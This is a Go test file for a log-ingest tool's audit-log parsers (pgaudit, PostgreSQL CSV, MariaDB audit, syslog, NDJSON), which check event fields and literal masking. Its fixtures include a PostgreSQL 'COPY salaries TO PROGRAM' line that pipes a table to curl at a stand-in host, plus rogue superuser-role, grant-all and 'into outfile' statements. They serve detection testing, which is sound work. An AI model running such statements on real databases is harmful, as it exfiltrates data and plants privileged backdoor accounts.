package ingest

import (
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/shuan-dev/shuan"
)

// parseOne parses rec with a fresh position and returns the event.
func parseOne(t *testing.T, p Parser, rec string) (shuan.Event, bool, error) {
	t.Helper()
	var ev shuan.Event
	ok, err := p.Parse([]byte(rec), Position{Origin: "/var/log/x.log", Key: "g:0", Line: 1}, &ev)
	return ev, ok, err
}

var ignoreID = cmpopts.IgnoreFields(shuan.Event{}, "ID", "Origin")

func utc(s string) time.Time {
	t, err := time.Parse("2006-01-02 15:04:05.000", s)
	if err != nil {
		panic(err)
	}
	return t
}

func TestPgaudit(t *testing.T) {
	p, err := NewPgaudit(Options{})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		rec  string
		want *shuan.Event // nil: skipped
	}{
		{"select with rows", `2026-11-25 19:35:44.772 UTC [14417] postgres@ingest_probe 127.0.0.1(53804) LOG:  AUDIT: SESSION,5,1,READ,SELECT,,,select count(*) from t where a = 'x';,<not logged>,1`,
			&shuan.Event{Time: utc("2026-11-25 19:35:44.772"), Source: "pgaudit", Program: "postgres", Actor: "postgres", Client: "127.0.0.1", Database: "ingest_probe",
				Object: "t", Action: "SELECT", Class: "READ", Rows: 1, Statement: "select count(*) from t where a = ?;", Success: true,
				Fields: map[string]string{"pid": "14417", "client_port": "53804", "statement_id": "5", "command": "SELECT"}}},
		{"multi-line quoted", "2026-11-25 19:35:44.771 UTC [14417] postgres@ingest_probe 127.0.0.1(53804) LOG:  AUDIT: SESSION,4,1,READ,SELECT,,,\"select *\n\t  from t\n\t where name = 'secret, value'\n\t   and id in (1,2,3);\",<not logged>,0\n",
			&shuan.Event{Time: utc("2026-11-25 19:35:44.771"), Source: "pgaudit", Program: "postgres", Actor: "postgres", Client: "127.0.0.1", Database: "ingest_probe",
				Object: "t", Action: "SELECT", Class: "READ", Rows: 0, Statement: "select * from t where name = ? and id in (?);", Success: true,
				Fields: map[string]string{"pid": "14417", "client_port": "53804", "statement_id": "4", "command": "SELECT"}}},
		{"copy to program, no rows field", `2026-11-25 19:35:44.781 UTC [14417] app@erp [local] LOG:  AUDIT: SESSION,7,1,READ,COPY,,,copy t to program 'cat > /dev/null';,<not logged>`,
			&shuan.Event{Time: utc("2026-11-25 19:35:44.781"), Source: "pgaudit", Program: "postgres", Actor: "app", Client: "[local]", Database: "erp",
				Object: "t", Action: "COPY", Class: "READ", Rows: -1, Statement: "copy t to program ?;", Success: true,
				Fields: map[string]string{"pid": "14417", "statement_id": "7", "command": "COPY", "export": "program"}}},
		{"create role superuser", `2026-11-25 19:35:44.786 UTC [14417] postgres@ingest_probe 127.0.0.1(53804) LOG:  AUDIT: SESSION,8,1,ROLE,CREATE ROLE,,,create role evil superuser login password <REDACTED>,<not logged>,0`,
			&shuan.Event{Time: utc("2026-11-25 19:35:44.786"), Source: "pgaudit", Program: "postgres", Actor: "postgres", Client: "127.0.0.1", Database: "ingest_probe",
				Object: "evil", Action: "CREATE_ROLE", Class: "ROLE", Rows: 0, Statement: "create role evil superuser login password <REDACTED>", Success: true,
				Fields: map[string]string{"pid": "14417", "client_port": "53804", "statement_id": "8", "command": "CREATE ROLE", "privileged": "superuser"}}},
		{"ddl with object", `2026-11-25 19:35:44.767 UTC [14417] postgres@ingest_probe 127.0.0.1(53804) LOG:  AUDIT: SESSION,2,1,DDL,CREATE TABLE,TABLE,public.t,"create table t(id int, name text);",<not logged>,0`,
			&shuan.Event{Time: utc("2026-11-25 19:35:44.767"), Source: "pgaudit", Program: "postgres", Actor: "postgres", Client: "127.0.0.1", Database: "ingest_probe",
				Object: "public.t", Action: "CREATE", Class: "DDL", Rows: 0, Statement: "create table t(id int, name text);", Success: true,
				Fields: map[string]string{"pid": "14417", "client_port": "53804", "statement_id": "2", "command": "CREATE TABLE", "object_type": "TABLE"}}},
		{"checkpoint, background process", `2026-11-25 19:35:44.891 UTC [5465] LOG:  checkpoint starting: immediate force wait`, nil},
		{"login failed", `2026-11-25 19:40:00.001 UTC [999] alice@erp 10.1.2.3(40000) FATAL:  password authentication failed for user "alice"`,
			&shuan.Event{Time: utc("2026-11-25 19:40:00.001"), Source: "pgaudit", Program: "postgres", Actor: "alice", Client: "10.1.2.3", Database: "erp",
				Action: "LOGIN_FAILED", Class: "AUTH", Rows: -1, Message: `password authentication failed for user "?"`,
				Fields: map[string]string{"pid": "999", "client_port": "40000", "severity": "FATAL"}}},
		{"connection authorized", `2026-11-25 19:40:00.002 UTC [998] bob@erp 10.1.2.4(40001) LOG:  connection authorized: user=bob database=erp application_name=psql`,
			&shuan.Event{Time: utc("2026-11-25 19:40:00.002"), Source: "pgaudit", Program: "postgres", Actor: "bob", Client: "10.1.2.4", Database: "erp",
				Action: "LOGIN", Class: "AUTH", Rows: -1, Success: true,
				Fields: map[string]string{"pid": "998", "client_port": "40001"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev, ok, err := parseOne(t, p, tt.rec)
			if err != nil {
				t.Fatal(err)
			}
			if tt.want == nil {
				if ok {
					t.Fatalf("got event %+v, want none", ev)
				}
				return
			}
			if !ok {
				t.Fatal("no event")
			}
			if d := cmp.Diff(*tt.want, ev, ignoreID); d != "" {
				t.Errorf("event (-want +got):\n%s", d)
			}
			if len(ev.ID) != 64 {
				t.Errorf("id %q", ev.ID)
			}
		})
	}
}

func TestPgauditFailedStatement(t *testing.T) {
	p, _ := NewPgaudit(Options{})
	lines := []string{
		`2026-11-25 19:35:44.790 UTC [14418] bob@erp 127.0.0.1(53804) ERROR:  permission denied for table salaries`,
		`2026-11-25 19:35:44.790 UTC [14418] bob@erp 127.0.0.1(53804) HINT:  whatever`,
		`2026-11-25 19:35:44.790 UTC [14418] bob@erp 127.0.0.1(53804) STATEMENT:  COPY salaries TO PROGRAM 'curl -T - http://203.0.113.9/'`,
	}
	var got []shuan.Event
	for _, l := range lines {
		ev, ok, err := parseOne(t, p, l)
		if err != nil {
			t.Fatal(err)
		}
		if ok {
			got = append(got, ev)
		}
	}
	if len(got) != 1 {
		t.Fatalf("got %d events, want 1", len(got))
	}
	ev := got[0]
	if ev.Success || ev.Action != "COPY" || ev.Object != "salaries" || ev.Fields["export"] != "program" || ev.Message != "permission denied for table salaries" || strings.Contains(ev.Statement, "203.0.113.9") {
		t.Errorf("got %+v", ev)
	}
}

func TestPgauditPrefixes(t *testing.T) {
	tests := []struct {
		prefix, line      string
		actor, db, client string
		when              time.Time
	}{
		{"%m [%p] ", `2026-11-25 19:35:44.772 CST [14417] LOG:  AUDIT: SESSION,1,1,READ,SELECT,,,select 1,<not logged>`, "", "", "", utc("2026-11-25 11:35:44.772")},
		{"%m [%p] ", `2026-11-25 19:35:44.772 +08 [14417] LOG:  AUDIT: SESSION,1,1,READ,SELECT,,,select 1,<not logged>`, "", "", "", utc("2026-11-25 11:35:44.772")},
		{"%t [%p]: [%l-1] user=%u,db=%d,app=%a,client=%h ", `2026-11-25 19:35:44 UTC [14417]: [3-1] user=u1,db=d1,app=psql,client=10.0.0.1 LOG:  AUDIT: SESSION,1,1,READ,SELECT,,,select 1,<not logged>`, "u1", "d1", "10.0.0.1", utc("2026-11-25 19:35:44.000")},
	}
	shanghai := time.FixedZone("CST", 8*3600)
	for _, tt := range tests {
		p, err := NewPgaudit(Options{Prefix: tt.prefix, Location: shanghai})
		if err != nil {
			t.Fatal(err)
		}
		ev, ok, err := parseOne(t, p, tt.line)
		if err != nil || !ok {
			t.Fatalf("%s: ok=%v err=%v", tt.prefix, ok, err)
		}
		if ev.Actor != tt.actor || ev.Database != tt.db || ev.Client != tt.client || !ev.Time.Equal(tt.when) || ev.Action != "SELECT" {
			t.Errorf("%s: got %+v", tt.prefix, ev)
		}
	}
	if _, err := NewPgaudit(Options{Prefix: "%Z"}); err == nil {
		t.Error("unknown escape accepted")
	}
}

func TestPgauditMalformed(t *testing.T) {
	p, _ := NewPgaudit(Options{})
	for _, l := range []string{
		"garbage line",
		"2026-11-25 19:35:44.772 UTC [1] u@d 1.2.3.4(5) no severity here",
		`2026-11-25 19:35:44.772 UTC [1] u@d 1.2.3.4(5) LOG:  AUDIT: SESSION,1,"unclosed`,
	} {
		if _, _, err := parseOne(t, p, l); err == nil {
			t.Errorf("%q: no error", l)
		}
	}
}

func TestPgauditCSV(t *testing.T) {
	p := NewPgauditCSV(Options{})
	audit := `2026-11-25 19:35:44.769 UTC,"postgres","erp",14417,"127.0.0.1:53804",6742f7a0.3851,3,"INSERT",2026-11-25 19:35:44 UTC,3/12,745,LOG,00000,"AUDIT: SESSION,3,1,WRITE,INSERT,,,""insert into t select g, 'n'||g
from generate_series(1,100) g;"",<not logged>,100",,,,,,,,,"psql","client backend",,0`
	ev, ok, err := parseOne(t, p, audit)
	if err != nil || !ok {
		t.Fatalf("ok=%v err=%v", ok, err)
	}
	if ev.Action != "INSERT" || ev.Class != "WRITE" || ev.Rows != 100 || ev.Actor != "postgres" || ev.Database != "erp" || ev.Client != "127.0.0.1" || ev.Fields["application"] != "psql" ||
		ev.Statement != "insert into t select g, ?||g from generate_series(?,?) g;" || ev.Object != "t" {
		t.Errorf("got %+v", ev)
	}
	if !p.Continues([]byte("2026-11-25 19:35:44.769 UTC,\"postgres\",\"erp\",1,\"AUDIT: x\n"), []byte("more")) {
		t.Error("open quote does not continue")
	}
	failed := `2026-11-25 19:35:45.000 UTC,"bob","erp",14418,"10.0.0.8:5000",6742f7a0.3852,4,"SELECT",2026-11-25 19:35:44 UTC,3/13,0,ERROR,42501,"permission denied for table salaries",,,,,,"select * from salaries where id = 7",15,,"psql","client backend",,0`
	ev, ok, err = parseOne(t, p, failed)
	if err != nil || !ok {
		t.Fatalf("ok=%v err=%v", ok, err)
	}
	if ev.Success || ev.Action != "SELECT" || ev.Object != "salaries" || ev.Fields["sqlstate"] != "42501" || ev.Statement != "select * from salaries where id = ?" {
		t.Errorf("got %+v", ev)
	}
}

func TestMariaDB(t *testing.T) {
	p := NewMariaDB(Options{})
	at := utc("2026-11-25 19:36:06.000")
	base := func(e shuan.Event) *shuan.Event {
		e.Time, e.Source, e.Host, e.Program, e.Actor, e.Client = at, "mariadb_audit", "vm", "mariadb", "shuan", "localhost"
		return &e
	}
	tests := []struct {
		rec  string
		want *shuan.Event
	}{
		{`20261125 19:36:06,vm,shuan,localhost,82,3167,QUERY,probe_db,'select *\n from t where name = \'x\\\'y\' and id in (1,2)',0`,
			base(shuan.Event{Database: "probe_db", Object: "probe_db.t", Action: "SELECT", Class: "READ", Rows: -1, Success: true, Statement: "select * from t where name = ? and id in (?)",
				Fields: map[string]string{"connection_id": "82", "query_id": "3167", "operation": "QUERY", "retcode": "0", "command": "SELECT"}})},
		{`20261125 19:36:06,vm,shuan,localhost,82,3166,QUERY,probe_db,'insert into t values (1,\'a,b\'),(2,\'it\'\'s\')',0`,
			base(shuan.Event{Database: "probe_db", Object: "probe_db.t", Action: "INSERT", Class: "WRITE", Rows: -1, Success: true, Statement: "insert into t values (?)",
				Fields: map[string]string{"connection_id": "82", "query_id": "3166", "operation": "QUERY", "retcode": "0", "command": "INSERT"}})},
		{`20261125 19:36:06,vm,shuan,localhost,82,3169,QUERY,probe_db,'select 0x41, \'q\' into outfile \'/tmp/x_probe_out\'',0`,
			base(shuan.Event{Database: "probe_db", Action: "SELECT", Class: "READ", Rows: -1, Success: true, Statement: "select ?, ? into outfile ?",
				Fields: map[string]string{"connection_id": "82", "query_id": "3169", "operation": "QUERY", "retcode": "0", "command": "SELECT", "export": "outfile"}})},
		{`20261125 19:36:06,vm,shuan,localhost,82,3171,QUERY,probe_db,'grant all on *.* to \'evil\'@\'%\' with grant option',0`,
			base(shuan.Event{Database: "probe_db", Object: "*.*", Action: "GRANT", Class: "ROLE", Rows: -1, Success: true, Statement: "grant all on *.* to ?@? with grant option",
				Fields: map[string]string{"connection_id": "82", "query_id": "3171", "operation": "QUERY", "retcode": "0", "command": "GRANT", "privileged": "all_privileges"}})},
		{`20261125 19:36:06,vm,shuan,localhost,82,3165,READ,probe_db,t,`,
			base(shuan.Event{Database: "probe_db", Object: "probe_db.t", Action: "TABLE_READ", Class: "READ", Rows: -1, Success: true,
				Fields: map[string]string{"connection_id": "82", "query_id": "3165", "operation": "READ"}})},
		{`20261125 19:36:06,vm,shuan,localhost,83,0,FAILED_CONNECT,,,1045`,
			base(shuan.Event{Action: "LOGIN_FAILED", Class: "AUTH", Rows: -1,
				Fields: map[string]string{"connection_id": "83", "query_id": "0", "operation": "FAILED_CONNECT", "retcode": "1045"}})},
		{`20261125 19:36:06,vm,shuan,localhost,84,0,CONNECT,erp,,0`,
			base(shuan.Event{Database: "erp", Action: "CONNECT", Class: "AUTH", Rows: -1, Success: true,
				Fields: map[string]string{"connection_id": "84", "query_id": "0", "operation": "CONNECT", "retcode": "0"}})},
		{`20261125 19:36:06,vm,shuan,localhost,84,9,QUERY,erp,'delete from orders where note = \'a, b\'',1146`,
			base(shuan.Event{Database: "erp", Object: "erp.orders", Action: "DELETE", Class: "WRITE", Rows: -1, Statement: "delete from orders where note = ?",
				Fields: map[string]string{"connection_id": "84", "query_id": "9", "operation": "QUERY", "retcode": "1146", "command": "DELETE"}})},
	}
	for _, tt := range tests {
		ev, ok, err := parseOne(t, p, tt.rec)
		if err != nil || !ok {
			t.Fatalf("%s: ok=%v err=%v", tt.rec, ok, err)
		}
		if d := cmp.Diff(*tt.want, ev, ignoreID); d != "" {
			t.Errorf("%s (-want +got):\n%s", tt.rec, d)
		}
	}
	for _, bad := range []string{"x", "20261125 19:36:06,vm,shuan,localhost,84,9,QUERY,erp,'unclosed,0", "2026,a,b,c,d,e,QUERY,f,g,0", "20261125 19:36:06,vm,u,h,1,2,BOGUS,d,o,0"} {
		if _, _, err := parseOne(t, p, bad); err == nil {
			t.Errorf("%q: no error", bad)
		}
	}
}

func TestSyslog(t *testing.T) {
	now := func() time.Time { return utc("2026-11-25 20:00:00.000") }
	p := NewSyslog(Options{Now: now})
	tests := []struct {
		rec  string
		want *shuan.Event
	}{
		{`<165>1 2026-11-25T19:36:06.123+08:00 plc-gw-01 scada 4242 ID47 [exampleSDID@32473 iut="3" eventSource="Application \"x\""][meta seq="1"] ` + "\ufeff" + `Operator login to HMI`,
			&shuan.Event{Time: utc("2026-11-25 11:36:06.123"), Source: "syslog", Host: "plc-gw-01", Program: "scada", Action: "MESSAGE", Class: "MISC", Rows: -1, Success: true, Severity: 5, Message: "Operator login to HMI",
				Fields: map[string]string{"facility": "20", "procid": "4242", "msgid": "ID47", "sd.exampleSDID@32473.iut": "3", "sd.exampleSDID@32473.eventSource": `Application "x"`, "sd.meta.seq": "1"}}},
		{`<14>1 - - - - - -`,
			&shuan.Event{Time: now(), Source: "syslog", Action: "MESSAGE", Class: "MISC", Rows: -1, Success: true, Severity: 6, Fields: map[string]string{"facility": "1"}}},
		{`<34>Oct 11 22:14:15 mymachine su[230]: 'su root' failed for lonvick on /dev/pts/8`,
			&shuan.Event{Time: utc("2026-10-11 22:14:15.000"), Source: "syslog", Host: "mymachine", Program: "su", Action: "MESSAGE", Class: "MISC", Rows: -1, Success: true, Severity: 2, Message: "'su root' failed for lonvick on /dev/pts/8",
				Fields: map[string]string{"facility": "4", "procid": "230"}}},
		{`Dec 31 23:59:59 host sshd: Accepted publickey for ops`,
			&shuan.Event{Time: utc("2025-12-31 23:59:59.000"), Source: "syslog", Host: "host", Program: "sshd", Action: "MESSAGE", Class: "MISC", Rows: -1, Success: true, Severity: 5, Message: "Accepted publickey for ops",
				Fields: map[string]string{"facility": "1"}}},
		{`2026-11-25T19:34:18.123456+00:00 db1 postgres[12]: hello`,
			&shuan.Event{Time: time.Date(2026, 11, 25, 19, 34, 18, 123456000, time.UTC), Source: "syslog", Host: "db1", Program: "postgres", Action: "MESSAGE", Class: "MISC", Rows: -1, Success: true, Severity: 5, Message: "hello",
				Fields: map[string]string{"facility": "1", "procid": "12"}}},
	}
	for _, tt := range tests {
		ev, ok, err := parseOne(t, p, tt.rec)
		if err != nil || !ok {
			t.Fatalf("%s: ok=%v err=%v", tt.rec, ok, err)
		}
		if d := cmp.Diff(*tt.want, ev, ignoreID); d != "" {
			t.Errorf("%s (-want +got):\n%s", tt.rec, d)
		}
	}
	for _, bad := range []string{"<999>1 x", "<13>1 notatime h a p m -", "<13>1 2026-11-25T19:36:06Z h a p m [bad", "no timestamp here", "<13>Foo 1 bar"} {
		if _, _, err := parseOne(t, p, bad); err == nil {
			t.Errorf("%q: no error", bad)
		}
	}
}

func TestNDJSON(t *testing.T) {
	p := NewNDJSON(Options{})
	ev, ok, err := parseOne(t, p, `{"time":"2026-11-25T19:36:06+08:00","source":"oracle_audit","actor":"scott","action":"SELECT","object":"HR.EMP","statement":"select * from emp where ssn = '110101199003070011'","fields":{"dialect":"postgres"}}`)
	if err != nil || !ok {
		t.Fatalf("ok=%v err=%v", ok, err)
	}
	if ev.Source != "oracle_audit" || ev.Origin != "/var/log/x.log" || ev.Rows != -1 || ev.Statement != "select * from emp where ssn = ?" || !ev.Time.Equal(utc("2026-11-25 11:36:06.000")) || len(ev.ID) != 64 {
		t.Errorf("got %+v", ev)
	}
	a, _, _ := parseOne(t, p, `{"id":"x1","time":"2026-11-25T19:36:06Z","action":"LOGIN"}`)
	var b shuan.Event
	p.Parse([]byte(`{"id":"x1","time":"2026-11-25T19:36:06Z","action":"LOGIN"}`), Position{Origin: "/var/log/x.log", Key: "other"}, &b)
	if a.ID != b.ID {
		t.Error("sender id does not make the event id")
	}
	for _, bad := range []string{"[1]", `{"time":"x"}`, `{"action":"X"}`, `{"time":"2026-11-25T19:36:06Z"}`, `{"time":"2026-11-25T19:36:06Z","action":"X"`} {
		if _, _, err := parseOne(t, p, bad); err == nil {
			t.Errorf("%q: no error", bad)
		}
	}
}

func TestIDStable(t *testing.T) {
	at := Position{Origin: "/a", Key: fileKey("g", 10)}
	if ID("pgaudit", at) != ID("pgaudit", at) || ID("pgaudit", at) == ID("pgaudit", Position{Origin: "/a", Key: fileKey("g", 11)}) {
		t.Error("ids not stable or not distinct")
	}
}
